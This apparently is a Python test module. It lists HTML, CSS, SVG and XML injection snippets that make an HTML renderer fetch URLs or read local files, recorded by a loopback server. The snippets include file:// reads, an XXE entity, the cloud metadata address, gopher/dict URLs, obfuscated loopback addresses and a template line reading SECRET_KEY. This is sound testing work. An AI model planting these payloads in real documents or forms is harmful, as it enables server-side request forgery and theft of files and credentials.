"""Ways to make a program that draws HTML ask an address or read a file, as text somebody writes into an answer.

`{http}` stands for http://host:port of a server that remembers who asked, `{port}` for its port, `{file}` for the path
of a file that holds a word.
"""

from __future__ import annotations

from typing import Final

SAMPLES: Final = {
    "img": "<img src='{http}/img'>",
    "img srcset": "<img srcset='{http}/srcset 2x'>",
    "picture": "<picture><source srcset='{http}/source'><img src='{http}/picture'></picture>",
    "input image": "<input type=image src='{http}/input'>",
    "object": "<object data='{http}/object'></object>",
    "embed": "<embed src='{http}/embed'>",
    "iframe": "<iframe src='{http}/iframe'></iframe>",
    "video": "<video src='{http}/video' poster='{http}/poster'></video>",
    "audio": "<audio src='{http}/audio'></audio>",
    "script": "<script src='{http}/script'></script>",
    "body background": "<body background='{http}/body'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={http}/refresh'>",
    "base": "<base href='{http}/base/'><img src='relative'>",
    "stylesheet": "<link rel=stylesheet href='{http}/stylesheet.css'>",
    "icon": "<link rel=icon href='{http}/icon'>",
    "attachment by link": "<link rel=attachment href='{http}/attachment'>",
    "attachment by a": "<a rel=attachment href='{http}/attached'>x</a>",
    "attachment of a file": "<link rel=attachment href='file://{file}'>",
    "style url": "<p style=\"background:url('{http}/background')\">x</p>",
    "style without quotes": "<p style=background:url({http}/unquoted)>x</p>",
    "list image": "<ul style=\"list-style-image:url('{http}/list')\"><li>x</ul>",
    "border image": "<p style=\"border:9px solid;border-image:url('{http}/border') 9\">x</p>",
    "content": "<style>p.v::before{{content:url('{http}/content')}}</style><p class=v>x</p>",
    "import": "<style>@import url('{http}/import.css');</style>",
    "import as text": "<style>@import '{http}/import-text.css';</style>",
    "font": "<style>@font-face{{font-family:v;src:url('{http}/font')}}p.f{{font-family:v}}</style><p class=f>x</p>",
    "page background": "<style>@page{{background:url('{http}/page')}}</style>",
    "image set": "<p style=\"background:image-set('{http}/set' 1x)\">x</p>",
    "end of a style": "</style><style>p{{background:url('{http}/style-end')}}</style>",
    "end of a title": "</title><img src='{http}/title-end'>",
    "end of an attribute": "\"><img src='{http}/quote-end'>",
    "end of a comment": "--><img src='{http}/comment-end'>",
    "SVG image": "<svg width=9 height=9><image width=9 height=9 href='{http}/svg-image'/></svg>",
    "SVG xlink": "<svg xmlns:xlink='http://www.w3.org/1999/xlink'>"
    "<image width=9 height=9 xlink:href='{http}/xlink'/></svg>",
    "SVG use": "<svg width=9 height=9><use href='{http}/use.svg#a'/></svg>",
    "SVG filter": "<svg><filter id=f><feImage href='{http}/filter'/></filter>"
    "<rect filter='url(#f)' width=9 height=9/></svg>",
    "SVG style": "<svg><style>@import '{http}/svg-style.css';</style><rect width=9 height=9/></svg>",
    "SVG foreign": "<svg><foreignObject><img src='{http}/foreign'></foreignObject></svg>",
    "SVG as data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
    "<image width='9' height='9' href='{http}/data-svg'/></svg>\">",
    "stylesheet as data": "<link rel=stylesheet href=\"data:text/css,@import '{http}/data-css';\">",
    "XInclude": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{http}/xinclude'/>",
    "entity": "<!DOCTYPE x [<!ENTITY e SYSTEM '{http}/entity'>]>&e;",
    "stylesheet instruction": "<?xml-stylesheet href='{http}/instruction.css'?>",
    "file": "<img src='file://{file}'>",
    "file on localhost": "<object data='file://localhost{file}'></object>",
    "file in capitals": "<iframe src='FILE://{file}'></iframe>",
    "file as a stylesheet": "<style>@import 'file://{file}';</style>",
    "path": "<img src='{file}'>",
    "redirect": "<img src='{http}/redirect'>",
    "redirect to a file": "<link rel=attachment href='{http}/redirect-file'>",
    "no scheme": "<img src='//127.0.0.1:{port}/no-scheme'>",
    "decimal address": "<img src='http://2130706433:{port}/decimal'>",
    "hexadecimal address": "<img src='http://0x7f000001:{port}/hexadecimal'>",
    "octal address": "<img src='http://0177.0.0.1:{port}/octal'>",
    "short address": "<img src='http://127.1:{port}/short'>",
    "address of nobody": "<img src='http://0.0.0.0:{port}/nobody'>",
    "name": "<img src='http://localhost:{port}/name'>",
    "name and password": "<img src='http://example.org@127.0.0.1:{port}/user'>",
    "IPv6": "<img src='http://[::1]:{port}/ipv6'>",
    "IPv4 in IPv6": "<img src='http://[::ffff:127.0.0.1]:{port}/mapped'>",
    "scheme in capitals": "<img src='HTTP://127.0.0.1:{port}/capitals'>",
    "spaces before": "<img src='  \t{http}/spaces'>",
    "metadata service": "<img src='http://169.254.169.254/latest/meta-data/'>",
    "ftp": "<img src='ftp://127.0.0.1:{port}/ftp'>",
    "gopher": "<img src='gopher://127.0.0.1:{port}/_gopher'>",
    "dict": "<img src='dict://127.0.0.1:{port}/dict'>",
    "jar": "<img src='jar:{http}/jar!/x'>",
    "markdown": "![x]({http}/markdown) [y]({http}/link)",
    "template": "{{% include '{file}' %}} {{{{ settings.SECRET_KEY }}}}",
    "formula": '=IMAGE("{http}/formula")',
}


def written(*, port: int, file: str) -> dict[str, str]:
    """Every sample with its addresses filled in, by its label."""
    return {
        label: text.format(http=f"http://127.0.0.1:{port}", port=port, file=file) for label, text in SAMPLES.items()
    }
